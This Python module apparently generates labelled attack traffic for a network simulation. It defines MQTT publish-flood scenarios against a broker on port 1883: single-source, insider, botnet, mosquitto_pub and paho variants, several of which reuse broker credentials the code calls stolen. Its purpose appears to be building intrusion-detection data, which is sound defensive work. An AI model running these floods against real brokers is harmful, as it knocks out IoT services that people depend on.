"""More messages than the broker can take."""
import os, subprocess

from ..benign import accounts, servers
from . import mqtt_packets as mqtt, scenario, talk

PORT = 1883
TOOLS = "mosqpub|", "mqttjs_", "paho", "go-mqtt-", "bench", "m", "ESP_", "sub"


def client_id(dice):
    """As one tool or another would name its client."""
    return dice.choice(TOOLS) + "".join(dice.choices("0123456789abcdef", k=dice.randint(4, 18)))


def topic(dice):
    """A topic that no device of the ward listens to."""
    return "/".join(talk.words(dice, dice.randint(1, 5)))


def stolen(plan):
    """User and password for the broker, where it wants them."""
    if not servers.broker_needs_password(plan):
        return {}
    return dict(zip(("user", "password"), accounts.account(plan, "broker")))


def open_session(connection, dice, version=4, **options):
    """CONNECT, and the wait for CONNACK."""
    connection.sendall(mqtt.connect(client_id(dice), dice.choice((10, 30, 60, 60, 120, 600)), version,
                                    **options))
    if not connection.recv(256):
        raise ConnectionError("the broker hung up")


def speaking(scene, source, broker, dice, beats, speak, **options):
    """Has `speak(connection)` use up the beats over a session, and over another where that one breaks."""
    for _ in beats:
        try:
            with talk.conversation(source, broker.address, PORT, dice) as connection:
                open_session(connection, dice, **options, **stolen(scene.plan))
                speak(connection)
        except OSError:
            scene.wait(dice.uniform(0.1, 0.5))


def publish_flood(scene, host, sources, rate):
    """Messages at `rate` (1/s) of all sources together, sizes and quality of service by chance."""
    broker = scene.host("broker")
    qos, version = scene.dice.choice((0, 0, 1, 2)), scene.dice.choice((4, 4, 5, 3))
    size = int(2 ** scene.dice.uniform(2, 13))
    rate = min(rate, 1_500_000 / size) / len(sources) / (1, 2, 3)[qos]
    retain = scene.dice.random() < 0.2

    def work(source, dice):
        where, blob = topic(dice), dice.randbytes(size * 2)
        beats = talk.beats(scene, dice, rate)

        def speak(connection):
            for number, _ in enumerate(beats):
                identifier, start = number % 65535 + 1, dice.randrange(size)
                message = blob[start:start + dice.randint(size // 2 + 1, size)]
                connection.sendall(mqtt.publish(where, message, qos, identifier, retain, version))
                if qos == 2:
                    connection.sendall(mqtt.release(identifier))
                talk.drain(connection)
            connection.sendall(mqtt.packet(mqtt.DISCONNECT))
        speaking(scene, source, broker, dice, beats, speak, version=version)
    with talk.blamed(scene, sources, broker.address, PORT):
        talk.crew(scene, host, sources, work)


@scenario("mqtt-publish-flood", "MQTT_FLOOD", "PUBLISH after PUBLISH from one machine outside")
def one_source(scene):
    attacker = scene.outsider()
    sources = [attacker.address] * scene.dice.randint(1, 4)
    publish_flood(scene, attacker, sources, scene.dice.randint(250, 1000))


@scenario("mqtt-publish-flood-inside", "MQTT_FLOOD", "the same from within the ward")
def within(scene):
    attacker = scene.insider()
    sources = [attacker.address] * scene.dice.randint(1, 4)
    publish_flood(scene, attacker, sources, scene.dice.randint(250, 1000))


@scenario("mqtt-publish-botnet", "MQTT_FLOOD", "the same from several machines outside")
def botnet(scene):
    publish_flood(scene, scene.plan["botnet"], scene.bots(scene.dice.randint(4, 9)),
                  scene.dice.randint(300, 900))


@scenario("mqtt-mosquitto-pub", "MQTT_FLOOD", "mosquitto_pub: one line after another", ["mosquitto_pub"])
def mosquitto_pub(scene):
    attacker, broker, dice = talk.either(scene), scene.host("broker"), scene.dice
    most, rate = dice.randint(2, 300), dice.randint(300, 1000)
    again = ["-m", "x" * dice.randint(1, most), "--repeat", 10_000, "--repeat-delay", 1 / rate]
    options = ["-h", broker.address, "-p", PORT, "-t", topic(dice), "-q", dice.choice((0, 1, 1, 2))]
    options += [word for pair in zip(("-u", "-P"), stolen(scene.plan).values()) for word in pair]
    options += ["-V", dice.choice(("mqttv31", "mqttv311", "5"))] + ["-i", client_id(dice)] * dice.randrange(2)
    with talk.blamed(scene, [attacker.address], broker.address, PORT, tail=4):
        if dice.random() < 0.5:
            scene.run(attacker, "mosquitto_pub", *options, *again)
            return
        with scene.running(attacker, "mosquitto_pub", *options, "-l", stdin=subprocess.PIPE,
                           bufsize=0) as program:
            os.set_blocking(program.stdin.fileno(), False)
            for _ in talk.beats(scene, dice, rate):
                program.stdin.write(b"x" * dice.randint(1, most) + b"\n")  # lost if the broker is slower
            program.stdin.close()
            scene.wait(1)


@scenario("mqtt-paho-flood", "MQTT_FLOOD", "python3-paho-mqtt: clients that publish as fast as they may")
def paho(scene):
    from paho.mqtt import client
    attacker, broker = scene.outsider(), scene.host("broker")
    qos, rate = scene.dice.randrange(3), scene.dice.randint(150, 500)
    size = int(2 ** scene.dice.uniform(2, 11))

    def work(source, dice):
        one = client.Client(client_id(dice) + "p", protocol=dice.choice((client.MQTTv31, client.MQTTv311)))
        one.max_inflight_messages_set(dice.choice((20, 100, 1000)))
        if known := stolen(scene.plan):
            one.username_pw_set(known["user"], known["password"])
        one.connect(broker.address, PORT, dice.choice((15, 60, 300)), bind_address=source)
        one.loop_start()
        where = topic(dice)
        for _ in talk.beats(scene, dice, rate / len(sources)):
            one.publish(where, dice.randbytes(dice.randint(1, size)), qos)
        one.disconnect()
        one.loop_stop()
    sources = [attacker.address] * scene.dice.randint(1, 3)
    with talk.blamed(scene, sources, broker.address, PORT):
        talk.crew(scene, attacker, sources, work)
